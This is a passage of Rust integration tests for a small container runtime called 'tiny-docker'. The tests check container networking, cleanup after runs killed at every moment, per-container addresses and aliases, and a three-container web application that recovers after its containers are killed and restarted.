    network(&world, &["create", "web"]);
    network(&world, &["create", "other"]);
    let id = world.detach(&["--name", "one", "--net", "web"], FOREVER);
    let has_cable = || inside(pid(&world, &id), || sh("ip -o link show eth1").is_ok());
    for words in [&["connect", "other", "one"], &["disconnect", "other", "one"]] {
        for moment in 1.. {
            let connects = words[0] == "connect";
            if !connects {
                network(&world, &["connect", "other", "one"]);
            }
            let lived = die_at(moment, words);
            let is_member = inspect(&world, "other")["Containers"].as_object().unwrap().len() == 1;
            assert!(is_member || !has_cable(), "{words:?}, killed at {moment}: a cable that nobody knows");
            if is_member {
                network(&world, &["disconnect", "other", "one"]);
            }
            assert!(!has_cable(), "{words:?}, killed at {moment}");
            if lived {
                break;
            }
        }
    }
    world.remove_all();
    network(&world, &["rm", "web", "other"]);
}

#[test]
#[ignore = "privileged: make vm-test"]
fn task5_long_a_run_that_is_killed_at_any_moment_leaves_nothing_on_its_network() {
    let world = World::new();
    network(&world, &["create", "web"]);
    let rootfs = busybox();
    let words =
        ["run", "--name", "one", "--net", "web", "--rootfs", rootfs.to_str().unwrap(), "sh", "-c", "exit 7"];
    let moments = world.die_at_every_moment(&words);
    assert!(moments > 20, "only {moments} moments");
    assert_eq!(inspect(&world, "web")["Containers"], serde_json::json!({}));
    network(&world, &["rm", "web"]);
    assert_eq!(left_of_networks(), "");
}

#[test]
#[ignore = "privileged: make vm-test"]
fn task5_long_many_at_once_have_an_address_and_a_name_each() {
    const MANY: usize = 16;
    let world = World::new();
    network(&world, &["create", "web"]);
    let rootfs = busybox();
    // All of them begin before the first one is waited for.
    let start = |number: usize| {
        let name = format!("c{number}");
        let words = ["run", "-d", "--name", &name, "--net", "web", "--network-alias", "all", "--rootfs"];
        let mut command = Command::new(binary());
        command.args(words).arg(&rootfs).args(["sleep", "100000"]).current_dir(world.dir());
        command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap()
    };
    let starts: Vec<Child> = (0..MANY).map(start).collect();
    for started in starts {
        let output = started.wait_with_output().unwrap();
        assert!(output.status.success(), "{}", said(&output));
    }
    let on_it = inspect(&world, "web")["Containers"].clone();
    let on_it = on_it.as_object().unwrap();
    let one = on_it.keys().next().unwrap();
    let addresses: BTreeSet<Ipv4Addr> = found(&world, one, "all").into_iter().collect();
    assert_eq!(addresses.len(), MANY, "the addresses of the alias that all have");
    for number in 0..MANY {
        let found = found(&world, one, &format!("c{number}"));
        assert!(found.len() == 1 && addresses.contains(&found[0]), "c{number}: {found:?}");
    }
    world.remove_all();
    network(&world, &["rm", "web"]);
}

/// What the application says, asked at `address` by the host.
fn visit(address: &str) -> std::io::Result<String> {
    let patience = Duration::from_secs(60);
    let mut stream = TcpStream::connect_timeout(&address.parse().unwrap(), patience)?;
    stream.set_read_timeout(Some(patience))?;
    stream.write_all(b"GET / HTTP/1.0\r\n\r\n")?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer)?;
    Ok(answer.split_once("\r\n\r\n").unwrap_or_default().1.to_string())
}

/// The book's script: as a person types it, but that `tiny-docker` is the one under test.
#[test]
#[ignore = "privileged: make vm-test"]
fn task5_long_a_web_application_of_three_containers_finds_its_parts() {
    let world = World::new();
    let scripts = programs(&world);
    let script = |name: &str| {
        let mut command = Command::new("sh");
        command.arg(scripts.join(name)).current_dir(world.dir()).env("ROOTFS", rootfs("debian"));
        let path = format!("{}:{}", world.dir().display(), std::env::var("PATH").unwrap());
        let output = command.env("PATH", path).output().unwrap();
        assert!(output.status.success(), "{name}: {}", said(&output));
    };
    script("start.sh");
    // By an address of the host's: that of the bridge will do.
    let front = world.inspect("front")["id"].as_str().unwrap().to_string();
    let server = world.inspect("server")["id"].as_str().unwrap().to_string();
    let door = format!("{}:8080", inspect(&world, "front")["IPAM"]["Config"][0]["Gateway"].as_str().unwrap());
    let number = |text: String| text.strip_prefix("visit ")?.trim_end().parse::<u32>().ok();
    let mut first = None;
    until("the application answers", || {
        first = visit(&door).ok().and_then(number);
        first.is_some()
    });
    assert_eq!(visit(&door).map(number).unwrap(), first.map(|first| first + 1), "the next visit");
    assert_eq!(found(&world, &front, "db"), NOBODY, "the database, for the front");

    // Each of them dies, and is there again, by the same name, whatever its address is now.
    for name in ["database", "server", "front"] {
        let life = pid(&world, name);
        kill(life, Signal::SIGKILL).unwrap();
        until("it runs again", || {
            let record = world.inspect(name);
            record["restart_count"] == 1 && record["status"] == "running"
        });
        let mut next = None;
        until("the application answers again", || {
            next = visit(&door).ok().and_then(number);
            next.is_some()
        });
        assert_ne!(pid(&world, name), life, "the process of {name} after its restart");
        assert!(next > first, "the visits are counted on: {first:?}, {next:?}");
        first = next;
    }

    // The database goes, and the application says so; a new one comes, with another address.
    let before = found(&world, &server, "db");
    world.tiny_docker(["rm", "-f", "database"]).assert().success();
    let without = visit(&door).unwrap();
    assert!(without.starts_with("no database"), "without its database: {without}");
    let debian = rootfs("debian");
    let program = format!("{}:/program.py:ro", scripts.join("database.py").display());
    let words =
        ["run", "-d", "--name", "database", "--net", "back", "--network-alias", "db", "-v", "data:/data"];
    let words = words.into_iter().chain(["-v", &program, "--rootfs", debian.to_str().unwrap()]);
    world.tiny_docker(words.chain(["python3", "-u", "/program.py"])).assert().success();
    let after = found(&world, &server, "db");
    assert!(after.len() == 1 && after != before, "the new database: {before:?}, {after:?}");
    let mut seen = String::new();
    until("the new database answers", || {
        seen = visit(&door).unwrap();
        !seen.starts_with("no database")
    });
    assert!(number(seen.clone()) > first, "what the volume has kept: {first:?}, {seen}");
    script("stop.sh");
    world.tiny_docker(["volume", "rm", "data"]).assert().success();
    assert_eq!(left_of_networks(), "");
}

/// The programs and scripts, beside a `tiny-docker` that is the one under test.
fn programs(world: &World) -> PathBuf {
    std::os::unix::fs::symlink(binary(), world.dir().join("tiny-docker")).unwrap();
    let dir = world.dir().join("web-application");
    fs::create_dir(&dir).unwrap();
    for (name, text) in [
        ("database.py", include_str!("web-application/database.py")),
        ("server.py", include_str!("web-application/server.py")),
        ("front.py", include_str!("web-application/front.py")),
        ("start.sh", include_str!("web-application/start.sh")),
        ("stop.sh", include_str!("web-application/stop.sh")),
    ] {
        fs::write(dir.join(name), text).unwrap();
    }
    dir
}
